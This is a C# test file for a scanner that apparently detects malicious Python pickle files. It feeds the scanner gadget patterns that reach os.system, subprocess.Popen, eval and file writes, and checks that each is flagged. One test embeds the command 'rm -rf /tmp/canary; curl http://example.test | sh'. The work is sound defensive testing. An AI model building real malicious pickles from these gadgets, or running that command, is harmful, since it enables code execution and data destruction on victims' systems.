// Ways by which callables come to run that no name in the file shows as called.
using Assay.Artifacts;
using Assay.Detection;
using Assay.Pickle;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Detection.Effects;

public sealed class WaysAroundTests
{
    /// <summary>A function that nothing is known of and that rebuilds nothing.</summary>
    [Theory]
    [InlineData("{call: pkg.disk.delete_folder, args: [word]}")]
    [InlineData("{call: pkg.from_file, args: [word, true, 10]}")]
    [InlineData("{call: pkg.show_versions}")]
    [InlineData("{call: pkg.kill, args: [-1, 9]}")]
    [InlineData("{call: pkg.Frame.to_table, args: [{result: pkg.Frame, args: [1]}, word]}")]
    [InlineData("{call: pkg.bunch._make_bunch, args: [X, [a]]}")]
    [InlineData("{call: builtins.map, args: [{import: pkg.mkdirp}, []]}")]
    public void AFunctionThatRebuildsNothingIsSuspicious(string fact) => Assert.Equal("unknown-callable-called", Flagged(fact));

    [Theory]
    [InlineData("{call: pkg._rebuild_thing, args: [1, word]}")]
    [InlineData("{call: pkg.arrays._unpickle, args: [word]}")]
    [InlineData("{call: pkg._new, args: [{import: pkg.Thing}, word]}")]
    [InlineData("{call: pkg.from_wkb, args: [{bytes: abc}]}")]
    [InlineData("{call: pkg.dtypes.as_dtype, args: [float32]}")]
    [InlineData("{call: pkg.mode.Mode, args: [word]}")]
    [InlineData("{call: pkg.state._representation.dStatespace, args: [1, 2]}")]
    [InlineData("{call: collections.defaultdict, args: [{import: pkg.zero}]}")]
    public void WhatRebuildsAndSelectsIsNot(string fact) => Assert.Null(Flagged(fact));

    /// <summary>A finder gives a callable that does harm; nothing in the file is seen to call it.</summary>
    [Theory]
    [InlineData("{call: numpy.core._ufunc_reconstruct, args: [os, system]}", "callable-command-execution")]
    [InlineData("{call: dill._dill._create_namedtuple, args: [system, [a], os]}", "callable-command-execution")]
    [InlineData("{call: dill._dill._import_module, args: [os.system]}", "callable-command-execution")]
    [InlineData("{call: builtins.getattr, args: [{result: pathlib.PosixPath, args: [/, tmp, x]}, touch]}", "callable-file-write")]
    [InlineData("{call: builtins.getattr, args: [{result: pandas.DataFrame, args: [{a: 1}]}, to_csv]}", "callable-file-write")]
    public void WhatAFinderGivesIsSaid(string fact, string rule) => Assert.Equal(rule, Flagged(fact));

    /// <summary>Descriptors call what they were made with when somebody reads, sets or deletes the attribute.</summary>
    [Theory]
    [InlineData("{result: builtins.property, args: [{import: pkg.run}]}")]
    [InlineData("{result: builtins.property, args: [null, {import: pkg.run}]}")]
    [InlineData("{result: builtins.property, args: [null, null, {import: operator.call}]}")]
    [InlineData("{result: functools.cached_property, args: [{result: operator.methodcaller, args: [touch]}]}")]
    [InlineData("{result: copy.copy, args: [{result: builtins.property, args: [null, {import: pkg.run}]}]}")]
    public void ADescriptorOfAForeignFunctionIsAUse(string member) =>
        Assert.NotNull(Flagged($"{{call: builtins.type, args: [X, [], {{plain: {member}}}]}}"));

    /// <summary>A state that the class of the file swallows gives its object nothing.</summary>
    [Theory]
    [InlineData("__setstate__", "{import: builtins.len}")]
    [InlineData("__slots__", "[touch]")]
    public void AnAttributeOfAStateIsNotBelievedWhereTheClassTakesItAway(string member, string value)
    {
        string made = $"{{result: 'builtins.type()', callee: {{result: builtins.type, args: [X, [{{import: pathlib.PosixPath}}], {{{member}: {value}}}]}}, args: [/tmp/x], state: {{touch: {{import: builtins.len}}}}}}";
        Assert.NotNull(Flagged($"{{call: 'operator.methodcaller()', target: {{result: operator.methodcaller, args: [touch]}}, args: [{made}]}}"));
    }

    /// <summary>What is known of a callable is known for objects that are what they seem.</summary>
    [Theory]
    [InlineData("{call: numpy.take, args: [{result: types.SimpleNamespace, state: {take: {import: pkg.mkdirp}}}, word]}")]
    [InlineData("{call: builtins.dict, args: [{result: types.SimpleNamespace, state: {keys: {import: pkg.run}}}]}")]
    [InlineData("{call: builtins.str, args: [{instance: email.message.Message, state: {as_string: {import: pkg.run}}}]}")]
    [InlineData("{call: builtins.len, args: [{instance: configparser.SectionProxy, state: {_options: {result: functools.partial, args: [{import: pkg.mkdirp}, word]}}}]}")]
    [InlineData("{call: builtins.setattr, args: [{result: types.SimpleNamespace}, keys, {result: builtins.getattr, args: [{result: pathlib.PosixPath, args: [/tmp/x]}, touch]}]}")]
    [InlineData("{call: typing._GenericAlias.__call__, module: typing, args: [{result: types.SimpleNamespace, state: {__origin__: {import: pkg.mkdirp}}}, word]}")]
    public void WhatAnObjectKeepsMayBeCalledByWhoeverGetsIt(string fact) => Assert.NotNull(Flagged(fact));

    [Theory]
    [InlineData("{call: builtins.getattr, args: [{instance: pkg.Vectorizer, state: {tokenizer: {import: pkg.tokenize}}}, analyze]}")]
    [InlineData("{call: numpy.take, args: [{result: types.SimpleNamespace, state: {shape: [1, 2]}}, 1]}")]
    [InlineData("{state: pkg.Vectorizer(), args: [{tokenizer: {import: pkg.tokenize}}]}")]
    public void ObjectsThatKeepFunctionsAreOrdinary(string fact) => Assert.Null(Flagged(fact));

    /// <summary>A method of an object, by its name: what it does is not known.</summary>
    [Fact]
    public void AMethodOfAnUnknownObjectThatIsCalledIsSuspicious() => Assert.NotNull(
        Flagged("{call: 'operator.methodcaller()', target: {result: operator.methodcaller, args: [get_data]}, args: [{result: pkg.Loader, args: [{bytes: '!!python'}]}]}"));

    private static string? Flagged(string fact) =>
        FactBuilder.Judge($"[{fact}]").Where(f => f.Severity >= Severity.Medium).MaxBy(f => f.Severity)?.Rule.Id;

    /// <summary>What a class of the file is made from makes its objects.</summary>
    [Theory]
    [InlineData("numpy\nmemmap", "/tmp/canary", "callable-file-write")]
    [InlineData("subprocess\nPopen", "id", "callable-command-execution")]
    [InlineData("strangers.logger\nWriter", "/tmp/canary", "unknown-callable-called")]
    public void AClassThatTheFileMakesHasTheConstructorsOfItsBases(string parent, string argument, string rule)
    {
        byte[] stream = PickleBuilder.Protocol(4).Global("builtins", "type").Mark().Str("Y").Global(parent.Split('\n')[0], parent.Split('\n')[1]).Op(Op.TUPLE1).Op(Op.EMPTY_DICT).Tuple().Reduce()
            .Mark().Str(argument).Str("u1").Str("w+").Tuple().Reduce().Stop().ToArray();
        Assert.Contains(Scans.Of(stream).Findings, f => f.Rule.Id == rule);
    }

    /// <summary>Packages hand on modules of Python's own under their names.</summary>
    [Theory]
    [InlineData("{call: future.moves.subprocess.Popen, args: [id]}", "callable-command-execution")]
    [InlineData("{call: strangers.compat.builtins.eval, args: ['1']}", "callable-code-execution")]
    public void AModuleThatIsHandedOnIsWhatItIsCalled(string fact, string rule) => Assert.Equal(rule, Flagged(fact));

    /// <summary>A function of strangers that is kept for whoever calls it, behind a copy and in an object that has nothing but attributes.</summary>
    [Fact]
    public void ACopyOfAPartialFunctionInAStateIsAPartialFunction()
    {
        byte[] stream = PickleBuilder.Protocol(4).Global("strangers.sets", "Ordered").EmptyTuple().Op(Op.NEWOBJ).Op(Op.EMPTY_DICT).Mark().Str("values")
            .Global("types", "SimpleNamespace").EmptyTuple().Reduce().Op(Op.EMPTY_DICT).Mark().Str("copy")
            .Global("copy", "copy").Global("functools", "partial").Global("others.disk", "make").Str("/tmp/canary").Op(Op.TUPLE2).Reduce().Op(Op.TUPLE1).Reduce()
            .Op(Op.SETITEMS).Build().Op(Op.SETITEMS).Build().Stop().ToArray();
        Assert.Contains(Scans.Of(stream).Findings, f => f.Rule.Id == "unknown-state");
    }

    /// <summary>What is put into a list after a call has it is among what the call got.</summary>
    [Fact]
    public void AListThatIsFilledAfterItWasHandedOverIsJudgedAsItIsInTheEnd()
    {
        byte[] stream = PickleBuilder.Protocol(4).Op(Op.EMPTY_LIST).Put(1).Global("subprocess", "list2cmdline").Get(1).Op(Op.TUPLE1).Reduce()
            .Get(1).Str("rm -rf /tmp/canary; curl http://example.test | sh").Op(Op.APPEND).Stop().ToArray();
        CallableFact[] calls = [.. Scans.Of(stream).Facts.OfType<CallableFact>().Where(f => f.Use is CallableUse.Called)];
        Assert.Equal([0, 1], calls.Select(c => c.Arguments[0].Items.Count));
    }
}
